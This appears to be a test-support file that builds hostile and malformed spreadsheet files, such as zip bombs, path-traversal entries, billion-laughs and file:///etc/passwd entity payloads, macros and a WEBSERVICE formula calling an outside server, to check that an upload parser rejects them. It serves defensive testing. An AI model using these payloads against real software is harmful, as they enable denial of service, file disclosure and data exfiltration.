@@ -1,0 +1,251 @@
+// Files that are meant to do harm or are simply broken, made when they are asked for, each with what must become of it.
+import {
+  book,
+  relations,
+  SHEET,
+  STRINGS,
+  sheetTag,
+  strings,
+  TEN_ROWS,
+  WORKBOOK,
+  WORKBOOK_RELATIONS,
+  workbook,
+  worksheet,
+} from './crafted-book.test-support.ts'
+import { type CraftedPart, craftedZip } from './crafted-zip.test-support.ts'
+
+export interface Hazard {
+  readonly name: string
+  readonly bytes: () => Buffer
+  /** a piece of the sentence that no other fault has, or that the file is read as if the hazard was not there */
+  readonly expected: string | 'harmless'
+}
+
+const hazard = (name: string, expected: string, bytes: () => Buffer): Hazard => ({ name, bytes, expected })
+
+type Replaced = Parameters<typeof book>[0]
+const file = (replaced: Replaced) => () => craftedZip(book(replaced))
+const inSheet = (rows: string) => file({ [SHEET]: worksheet(TEN_ROWS + rows) })
+const afterSheet = (after: string) => file({ [SHEET]: worksheet(TEN_ROWS, { after }) })
+const afterSheets = (after: string) => file({ [WORKBOOK]: workbook(sheetTag('Matrix', 1), { after }) })
+const name = (range: string) => `<definedNames><definedName name="x">${range}</definedName></definedNames>`
+const MEGABYTE = 1 << 20
+
+/** `unit` over and over, at least so many bytes, between the ten rows and the end of the sheet. */
+function flooded(megabytes: number, unit: string, { before = '', after = '' } = {}): Omit<CraftedPart, 'name'> {
+  const [head = '', tail = ''] = worksheet(`${TEN_ROWS}${before}|${after}`).split('|')
+  const block = unit.repeat(Math.ceil(MEGABYTE / 4 / unit.length))
+  return { repeated: { before: head, block, times: Math.floor((megabytes * MEGABYTE) / block.length), after: tail } }
+}
+
+const FILES: Hazard[] = [
+  hazard('an empty file', 'is empty', () => Buffer.alloc(0)),
+  hazard('a picture', 'is not a spreadsheet', () => Buffer.from('\x89PNG\r\n\x1a\n and so on', 'latin1')),
+  hazard('plain text', 'is not a spreadsheet', () => Buffer.from('ID,H1\nE1,CC\n')),
+  hazard('an old .xls', 'is an old .xls', () => oldOffice('Workbook')),
+  hazard('an .xlsx with a password', 'is an old .xls', () => oldOffice('EncryptedPackage')),
+  hazard('eleven megabytes', '10 MB', () => Buffer.concat([craftedZip(book()), Buffer.alloc(11 * MEGABYTE)])),
+]
+
+function oldOffice(stream: string): Buffer {
+  const bytes = Buffer.alloc(1536)
+  bytes.write('d0cf11e0a1b11ae1', 'hex')
+  bytes.write(stream, 1024, 'utf16le')
+  return bytes
+}
+
+const ZIPS: Hazard[] = [
+  hazard('a zip that is cut off', 'its end is missing', () => craftedZip(book()).subarray(0, -60)),
+  hazard('a zip with something after its end', 'its end is missing', () => Buffer.concat([craftedZip(book()), Buffer.alloc(9)])),
+  hazard('zip64', 'zip64', () => craftedZip(book(), { 8: 0xffff, 10: 0xffff })),
+  hazard('a zip in several pieces', 'split into several', () => craftedZip(book(), { 4: 1, 6: 1 })),
+  hazard('a directory outside of the file', 'its list of parts lies outside', () => craftedZip(book(), { 18: 0x10 })),
+  hazard('an encrypted part', 'are encrypted', file({ [SHEET]: { text: worksheet(''), flags: 1 } })),
+  hazard('another way of packing', 'method 12', file({ [SHEET]: { text: worksheet(''), method: 12 } })),
+  hazard(
+    '1,201 parts',
+    '1,200 parts',
+    file(Object.fromEntries(Array.from({ length: 1195 }, (_, index) => [`xl/extra/part${index}.xml`, { text: '', stored: true }]))),
+  ),
+  hazard('a path out of the folder', 'name that no spreadsheet program', file({ '../../../../tmp/outside.txt': 'x' })),
+  hazard('a path from the root', 'name that no spreadsheet program', file({ '/etc/evil': 'x' })),
+  hazard('a part twice', 'two parts of the same name', file({ 'XL/Worksheets/Sheet1.xml': worksheet('') })),
+  hazard('macros', 'has macros', file({ 'xl/vbaProject.bin': 'x' })),
+  hazard('a part that declares less', 'larger than the file declares', file({ [SHEET]: { text: worksheet(TEN_ROWS), size: 100 } })),
+  hazard('a part that declares more', 'is smaller than', file({ [SHEET]: { text: worksheet(TEN_ROWS), size: 40 * MEGABYTE } })),
+  hazard('a wrong checksum', 'its checksum is wrong', file({ [SHEET]: { text: worksheet(TEN_ROWS), crc: 1 } })),
+  hazard('a part that cannot be unpacked', 'it cannot be unpacked', () => broken(craftedZip(book()), 'xl/worksheets/sheet1.xml')),
+  hazard('parts over one another', 'lie over one another', () =>
+    craftedZip([...book(), { name: 'xl/worksheets/sheet2.xml', text: worksheet(TEN_ROWS), at: SHEET }]),
+  ),
+  hazard('300 MB of blanks', 'larger than 48 MB', file({ [SHEET]: flooded(300, ' ') })),
+  hazard(
+    '300 MB of blanks that are kept secret',
+    'larger than the file declares',
+    file({ [SHEET]: { ...flooded(300, ' '), size: 40_000 } }),
+  ),
+  hazard('100 MB of cells', 'larger than 48 MB', file({ [SHEET]: flooded(100, '<row><c><v>1</v></c></row>') })),
+  hazard('twice 40 MB', '64 MB together', file({ [SHEET]: flooded(40, ' '), [STRINGS]: flooded(40, ' ') })),
+]
+
+/** Turns the beginning of the packed bytes of a part into a kind of block that there is none of. */
+function broken(zip: Buffer, part: string): Buffer {
+  zip.fill(0xff, zip.indexOf(part) + part.length, zip.indexOf(part) + part.length + 8)
+  return zip
+}
+
+const laughs = Array.from({ length: 20 }, (_, index) => `<!ENTITY a${index} "${index ? `&a${index - 1};`.repeat(10) : 'ha'}">`).join('')
+
+const MARKUP: Hazard[] = [
+  hazard('a billion laughs', 'a document type declaration', withDoctype(laughs, '&a19;')),
+  hazard('an entity from a file', 'a document type declaration', withDoctype('<!ENTITY x SYSTEM "file:///etc/passwd">', '&x;')),
+  hazard('XML that is cut off', 'its XML is broken', file({ [SHEET]: worksheet(TEN_ROWS).slice(0, -40) })),
+  hazard('XML that is cut off after all cells', 'its XML is broken', file({ [SHEET]: worksheet(TEN_ROWS).replace('</worksheet>', '') })),
+  hazard(
+    'letters that are not UTF-8',
+    'not written in UTF-8',
+    file({ [SHEET]: { bytes: Buffer.from(worksheet('<row><c t="str"><v>\xe9</v></c></row>'), 'latin1') } }),
+  ),
+  hazard('UTF-16', 'not written in UTF-8', file({ [SHEET]: { bytes: Buffer.from(`\ufeff${worksheet(TEN_ROWS)}`, 'utf16le') } })),
+  hazard('another encoding', 'not written in UTF-8', file({ [SHEET]: worksheet(TEN_ROWS).replace('UTF-8', 'ISO-8859-1') })),
+  hazard('elements in one another without end', '64 deep', file({ [SHEET]: flooded(10, '<x>') })),
+  hazard('47 MB of empty rows', '3,000,000 elements', file({ [SHEET]: flooded(47, '<row/>') })),
+  hazard('47 MB of attributes', 'more than 256 attributes', file({ [SHEET]: { repeated: attributes() } })),
+  hazard('47 MB of blanks', 'harmless', file({ [SHEET]: flooded(47, ' ') })),
+]
+
+function withDoctype(declarations: string, text: string) {
+  const doctype = `<!DOCTYPE worksheet [${declarations}]>`
+  return file({ [SHEET]: worksheet(`${TEN_ROWS}<row><c t="str"><v>${text}</v></c></row>`, { doctype }) })
+}
+
+/** Names that differ would not pack well; the same name again is as much work until it is noticed. */
+function attributes() {
+  return {
+    before: `${worksheet('').split('</sheetData>')[0]}<row><c`,
+    block: ' a="1"'.repeat(50_000),
+    times: 160,
+    after: '/></row></sheetData></worksheet>',
+  }
+}
+
+const REFERENCES: Hazard[] = [
+  hazard('a name for cells of __proto__', 'harmless', afterSheets(name("'__proto__'!$A$7:$B$8"))),
+  hazard('a name for a whole sheet', 'harmless', afterSheets(name('Matrix!$A$1:$XFD$1048576'))),
+  hazard('a validation of ten whole columns', 'harmless', afterSheet(validation('B2:K1048576'))),
+  hazard('a validation of all cells', 'harmless', afterSheet(validation('A1:XFD1048576'))),
+  hazard('a merge of all cells', 'harmless', afterSheet('<mergeCells count="1"><mergeCell ref="A1:XFD1048576"/></mergeCells>')),
+  hazard(
+    'two thousand million columns',
+    'harmless',
+    file({ [SHEET]: worksheet(TEN_ROWS, { before: '<cols><col min="1" max="2000000000" width="9"/></cols>' }) }),
+  ),
+  hazard('a huge dimension', 'harmless', file({ [SHEET]: worksheet(TEN_ROWS, { before: '<dimension ref="A1:XFD1048576"/>' }) })),
+  hazard('an empty row 4,294,967,294', 'harmless', inSheet('<row r="4294967294"/>')),
+  hazard(
+    'a cell in row 4,294,967,294',
+    'in row 4,294,967,294; 10,000',
+    inSheet('<row r="4294967294"><c r="A4294967294"><v>1</v></c></row>'),
+  ),
+  hazard('row 10,001', 'in row 10,001; 10,000', inSheet('<row r="10001"><c r="A10001"><v>1</v></c></row>')),
+  hazard('column IW', 'something in IW11; 256 columns', inSheet('<row r="11"><c r="IW11"><v>1</v></c></row>')),
+  hazard('a row without a real number', 'row with the number', inSheet('<row r="1e3"/>')),
+  hazard('an address that is none', 'cell with the address', inSheet('<row r="50"><c r="ZZZZZ50"><v>1</v></c></row>')),
+  hazard('a cell in another row', 'where it does not belong', inSheet('<row r="11"><c r="A12"><v>1</v></c></row>')),
+  hazard('a cell twice', 'the cell A3 twice', inSheet('<row r="3"><c r="A3"><v>1</v></c></row>')),
+  hazard(
+    'array formulas over everything',
+    'in row 10,001; 10,000',
+    file({ [SHEET]: flooded(40, '<row><c><f t="array" ref="A1:XFD1048576"/></c></row>') }),
+  ),
+  hazard(
+    'a link to another file and to a server',
+    'harmless',
+    inSheet('<row r="11"><c r="A11"><f>[1]Sheet1!A1</f></c><c r="B11"><f>WEBSERVICE("http://server.example/"&amp;A1)</f></c></row>'),
+  ),
+]
+
+function validation(range: string): string {
+  return `<dataValidations count="1"><dataValidation type="list" sqref="${range}"><formula1>"a"</formula1></dataValidation></dataValidations>`
+}
+
+const VALUES: Hazard[] = [
+  hazard(
+    'a shared text that is not there',
+    'a text that is not in the file',
+    inSheet('<row r="11"><c r="A11" t="s"><v>99999</v></c></row>'),
+  ),
+  hazard('the shared text __proto__', 'a text that is not in the file', inSheet('<row r="11"><c r="A11" t="s"><v>__proto__</v></c></row>')),
+  hazard('a number that is a word', 'said to be a number', inSheet('<row r="11"><c r="A11"><v>abc</v></c></row>')),
+  hazard('a number without end', 'a number that is too large', inSheet('<row r="11"><c r="A11"><v>1e400</v></c></row>')),
+  hazard('a truth that is neither', 'TRUE or FALSE', inSheet('<row r="11"><c r="A11" t="b"><v>2</v></c></row>')),
+  hazard('a kind of value that is not known', 'a kind of value', inSheet('<row r="11"><c r="A11" t="z"><v>1</v></c></row>')),
+  hazard(
+    '40,000 characters',
+    'holds 40,000 characters',
+    inSheet(`<row r="11"><c r="A11" t="inlineStr"><is><t>${'x'.repeat(40_000)}</t></is></c></row>`),
+  ),
+  hazard(
+    'a text of 47 MB',
+    'characters; a cell',
+    file({ [SHEET]: flooded(47, 'x', { before: '<row><c t="str"><v>', after: '</v></c></row>' }) }),
+  ),
+  hazard('610,000 cells', '600,000 cells', file({ [SHEET]: { repeated: tooManyCells() } })),
+  hazard(
+    '500,000 shared texts',
+    '400,000 different texts',
+    file({
+      [STRINGS]: {
+        repeated: { before: strings('').replace('</sst>', ''), block: '<si><t/></si>'.repeat(1000), times: 500, after: '</sst>' },
+      },
+    }),
+  ),
+]
+
+function tooManyCells() {
+  const [before = '', after = ''] = worksheet('|').split('|')
+  return { before, block: `<row>${'<c><v>1</v></c>'.repeat(61)}</row>`, times: 10_000, after }
+}
+
+const severalSheets = (names: readonly string[], part: (index: number) => string) =>
+  file({
+    [WORKBOOK]: workbook(names.map((one, index) => sheetTag(one, index + 1)).join('')),
+    [WORKBOOK_RELATIONS]: relations(names.map((_, index) => [index + 1, 'worksheet', part(index)])),
+    'xl/worksheets/sheet2.xml': worksheet(TEN_ROWS),
+  })
+
+const WORKBOOKS: Hazard[] = [
+  hazard('no workbook', 'no workbook in this file', file({ [WORKBOOK]: null })),
+  hazard('a text document', 'another kind of document', file({ [WORKBOOK]: '<document><body/></document>' })),
+  hazard(
+    'two sheets of the same name',
+    'Two sheets in this file',
+    severalSheets(['Matrix', 'mAtrix'], (index) => `worksheets/sheet${index + 1}.xml`),
+  ),
+  hazard(
+    'a sheet without a name',
+    'has no name',
+    severalSheets(['Matrix', ''], (index) => `worksheets/sheet${index + 1}.xml`),
+  ),
+  hazard(
+    'a sheet that is not there',
+    'is not there',
+    severalSheets(['Matrix', 'Lost'], (index) => `worksheets/sheet${index * 2 + 1}.xml`),
+  ),
+  hazard(
+    'a sheet that is another',
+    'same contents part',
+    severalSheets(['Matrix', 'Twin'], () => 'worksheets/sheet1.xml'),
+  ),
+  hazard('a sheet that is something else', 'is not a worksheet', file({ [SHEET]: '<workbook/>' })),
+  hazard(
+    '251 sheets',
+    '250 sheets',
+    severalSheets(
+      Array.from({ length: 251 }, (_, index) => `S${index}`),
+      () => 'worksheets/sheet1.xml',
+    ),
+  ),
+]
+
+export const HAZARDS: readonly Hazard[] = [...FILES, ...ZIPS, ...MARKUP, ...REFERENCES, ...VALUES, ...WORKBOOKS]
